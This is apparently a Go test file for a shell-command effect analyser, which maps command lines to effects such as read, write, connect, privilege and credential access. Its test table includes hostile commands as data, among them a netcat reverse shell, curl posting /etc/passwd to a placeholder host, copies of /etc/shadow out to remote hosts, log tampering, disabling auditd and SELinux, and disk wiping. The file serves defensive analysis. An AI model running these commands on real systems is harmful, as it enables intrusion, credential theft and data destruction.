package command

import (
	"strings"
	"testing"
)

// cases are calls with everything that they would do. They are grouped as the tables are.
var cases = []struct{ line, want string }{
	// files
	{"cp -a /bin/bash /usr/lib/.bk", "read /bin/bash; write /usr/lib/.bk"},
	{"cp a b dir", "read a; write dir/a; read b; write dir/b"},
	{"cp -t /opt x/y", "read x/y; write /opt/y"},
	{"cp --frobnicate a b", "read a; write b; unknown option \"--frobnicate\" of cp is not understood"},
	{"cp --recurs a /tmp", "read a; write /tmp/a"},
	{"mv a /etc/", "read a; delete a; write /etc/a"},
	{"ln -sf /dev/null /root/.bash_history", "may delete /root/.bash_history; create /root/.bash_history"},
	{"install -m 4755 x /usr/bin/x", "read x; write /usr/bin/x; chmod /usr/bin/x; privilege /usr/bin/x"},
	{"rm -rf -- -x", "delete -x"},
	{"rm -rZ x", "delete x; unknown option \"-rZ\" of rm is not understood"},
	{"dd if=/dev/sda of=/tmp/i bs=1M", "read /dev/sda; write /tmp/i"},
	{"dd of=/dev/sdb", "write /dev/sdb; irreversible /dev/sdb"},
	{"chmod u+s /bin/x", "chmod /bin/x; privilege /bin/x"},
	{"chmod 1777 /tmp/x", "chmod /tmp/x"},
	{"chattr +i /etc/resolv.conf", "chmod /etc/resolv.conf"},
	{"setcap cap_setuid+ep /usr/bin/x", "privilege /usr/bin/x"},
	{"touch -t 197001010000 /a", "tamper /a; create /a"},
	{"truncate -s 0 /var/log/wtmp", "write /var/log/wtmp"},
	{"tar xzf a.tgz -C /opt", "read a.tgz; write /opt"},
	{"tar cf /tmp/x.tar --checkpoint=1 --checkpoint-action=exec=sh a", "run sh: sh; read a; write /tmp/x.tar"},
	{"tar czf - -C /etc shadow", "read /etc/shadow"},
	{"gzip -9 /var/log/x", "read /var/log/x; write /var/log/x.gz; delete /var/log/x"},
	{"unzip -d /opt a.zip", "read a.zip; write /opt"},
	{"sort -o /out in", "write /out; read in"},
	{"tee -a /etc/hosts", "append /etc/hosts"},
	{"sed -i.bak s/a/b/ /etc/x", "write /etc/x"},
	{"sed -n '1e id' f", "read f; run sh: id"},
	{"sed 's/x/y/w /tmp/o' f", "write /tmp/o; read f"},
	{"awk -f p.awk f", "read p.awk; read f; run awk file p.awk"},
	{"find /a -name '*.log' -delete", "delete /a/*.log"},
	{"find /a -type f -exec chmod 777 {} +", "run chmod 777 /a/*"},
	{"find /a -frob", "unknown part \"-frob\" of the search of find is not understood"},
	// commands that run others
	{"sudo -u bob A=1 id", "privilege bob; run id as bob (sudo)"},
	{"sudo -i", "privilege root; exec shell; run sh typed as root (sudo)"},
	{"env -i A=b sh -c id", "run sh -c id"},
	{"timeout -k 5 10 rm x", "run rm x"},
	{"nice -n 5 nohup x", "run nohup x"},
	{"su - bob -c id", "privilege bob; run sh: id as bob (su)"},
	{"bash -c 'id' x y", "run bash: id"},
	{"bash /tmp/x.sh", "read /tmp/x.sh; run bash file /tmp/x.sh"},
	{"xargs -I{} cp {} /tmp", "run cp ‹items from input› /tmp"},
	{"flock /tmp/l -c id", "may create /tmp/l; run sh: id"},
	{"watch -n1 df -h", "run sh: df -h"},
	{"nsenter -t 1 -m sh", "privilege host namespaces; run sh as the host"},
	{"chroot /mnt /bin/sh", "privilege /mnt; run /bin/sh @other as root in /mnt"},
	{"systemd-run --on-boot=1 id", "persist a transient timer; run id @later as the service manager"},
	{"python3 -c 'print(1)'", "run python: print(1)"},
	{"python3 -m http.server 9000", "listen 9000"},
	{"perl -pi -e 's/a/b/' f", "read f; write f; run perl: s/a/b/"},
	{"eval echo hi", "run bash: echo hi"},
	{"trap 'rm x' EXIT", "run bash: rm x"},
	// network
	{"curl -d @/etc/passwd https://h.example/", "connect https://h.example/; read /etc/passwd"},
	{"curl -o /tmp/x -L https://h.example/x", "connect https://h.example/x; write /tmp/x"},
	{"curl -O https://h.example/d/f.tgz", "connect https://h.example/d/f.tgz; write f.tgz"},
	{"curl file:///etc/shadow", "read /etc/shadow"},
	{"wget -P /opt https://h.example/a.sh", "connect https://h.example/a.sh; write /opt/a.sh"},
	{"nc -e /bin/sh h.example 99", "connect h.example:99; run /bin/sh"},
	{"nc -lvp 99", "listen 99"},
	{"socat TCP-LISTEN:99,fork EXEC:/bin/sh", "listen 99; run /bin/sh"},
	{"ssh -p 2222 u@h id", "connect u@h:2222; remote-exec u@h; run sh: id @remote as host u@h"},
	{"ssh -o ProxyCommand='touch x' h", "run sh: touch x; connect h; remote-exec h; run sh typed @remote as host h"},
	{"scp /etc/shadow u@h:/tmp/", "connect u@h; read /etc/shadow"},
	{"rsync -a --delete src/ /dst", "read src/; write /dst; may delete /dst"},
	{"rsync -e 'sh -c id' a h:b", "connect h; read a; run sh: sh -c id"},
	{"dig @192.0.2.1 x.example.net", "connect 192.0.2.1; dns x.example.net"},
	{"openssl s_client -connect h:443", "connect h:443"},
	{"openssl enc -d -in a -out b -frob", "read a; write b; unknown option \"-frob\" of openssl enc is not understood"},
	{"iptables -F", "security-tool firewall"},
	{"ip addr show", ""},
	{"ip link set eth0 down", "write network configuration"},
	// system
	{"mount -o bind /a /b", "mount /b"},
	{"mkfs.ext4 /dev/sdb1", "irreversible /dev/sdb1; write /dev/sdb1"},
	{"modprobe -r kvm", "kernel kvm"},
	{"sysctl -w net.ipv4.ip_forward=1", "kernel net.ipv4.ip_forward"},
	{"crontab -r", "delete crontab; persist crontab"},
	{"journalctl --vacuum-time=1s", "tamper journal"},
	{"journalctl -u nginx -n 50 --no-pager", ""},
	{"setenforce 0", "security-tool selinux"},
	{"systemctl stop auditd", "service auditd; security-tool auditd"},
	{"systemctl status x --frob", "unknown option \"--frob\" of systemctl is not understood"},
	{"useradd -o -u 0 x", "account x; privilege x"},
	{"passwd -d root", "account root"},
	{"apt-get install -y nginx", "may connect package servers; install nginx"},
	{"apt-get frobnicate", "install frobnicate; unknown operation \"frobnicate\" of apt-get is not understood"},
	{"git clone https://g.example/a/b.git", "connect https://g.example/a/b.git; write b"},
	{"git -c core.sshCommand=id fetch origin", "connect git remote origin; write ./.git; run sh: id"},
	{"git status --short", ""},
	{"docker run --privileged -v /:/h img sh", "privilege container img; mount /; privilege container img; exec img; may connect docker.io; run sh @container as container img"},
	{"docker exec -it web sh -c id", "run sh -c id @container as container web"},
	{"kubectl get secrets -A -o json", "credential k8s:secrets"},
	{"kubectl delete pv --all", "kubernetes pv/*; irreversible pv/*"},
	{"kubectl get pods -o wide", ""},
	{"kubectl exec web -- id", "remote-exec pod web; run id @container as pod web"},
	{"kubectl debug node/n -it --image=busybox", "exec shell; kubernetes node/n; privilege node/n; run sh typed @container as pod node/n"},
	{"aws sts assume-role --role-arn r --role-session-name s", "account aws sts assume-role; cloud aws sts assume-role; credential aws sts assume-role"},
	{"aws ssm send-command --document-name D --parameters commands=id", "remote-exec aws instances; unknown the commands in \"commands=id\" run on other machines and are not followed"},
	{"gcloud projects add-iam-policy-binding p --member=user:u --role=roles/owner", "account gcloud projects add-iam-policy-binding p; cloud gcloud projects add-iam-policy-binding p"},
	{"terraform output -json", "credential terraform state"},
	{"az keyvault secret show --name a --vault-name b", "credential az keyvault secret show"},
	{"gcloud compute ssh vm --command=id", "connect vm; remote-exec vm; run sh: id @remote as host vm"},
	{"helm get values a", "credential k8s:helm values"},
	{"git commit --frobnicate", "write .; unknown option \"--frobnicate\" of git commit is not understood"},
	{"git frobnicate", "unknown sub-command \"frobnicate\" of git is not understood"},
	{"git diff --output=/etc/x HEAD", "write /etc/x"},
	{"git rebase --exec make main", "write .; run sh: make"},
	{"git bundle create /tmp/x.b --all", "write /tmp/x.b"},
	{"git reflog expire --expire=now --all", "delete earlier states of ."},
	{"git credential fill", "credential git credentials"},
	{"git send-email --to-cmd id --smtp-server=/bin/x p", "read p; run /bin/x; run sh: id"},
	{"bwrap --bind /a /b sh -c id", "may mount /a; run sh -c id @other as a sandbox"},
	{"redis-cli -h h config set dir /x", "connect h; run redis: config set dir /x"},
	{"gio trash a", "delete a"},
	{"sd a b f", "write f"},
	{"aws s3 cp /etc/shadow s3://b/k", "read /etc/shadow; connect s3://b/k; cloud s3://b/k"},
	{"aws ec2 describe-instances", ""},
	{"terraform destroy -auto-approve", "cloud terraform destroy; irreversible everything that the terraform configuration describes"},
	{"psql -c 'select 1'", "run postgresql: select 1"},
}

func TestCases(t *testing.T) {
	for _, c := range cases {
		got := show(evaluate(c.line))
		if sortedParts(got) != sortedParts(c.want) {
			t.Errorf("%s\n got  %s\n want %s", c.line, got, c.want)
		}
	}
}

// TestLooseOptions: a tool whose options are not described one by one is not understood when one of them may name what it writes.
func TestLooseOptions(t *testing.T) {
	for _, line := range []string{"flex scan.l --outfile scan.c", "bison --report-file=/etc/x g.y", "pdfjam a.pdf --outfile b.pdf"} {
		if lookup(strings.Fields(line)[0]).hookName == "" {
			continue // described in full since, so that its own cases say what it does
		}
		if r := evaluate(line); len(r.Unknown) == 0 {
			t.Errorf("%s is said to be understood: %s", line, show(r))
		}
	}
	if r := evaluate("feh --quiet a.png"); len(r.Unknown) > 0 {
		t.Errorf("feh --quiet a.png: %v", r.Unknown)
	}
}
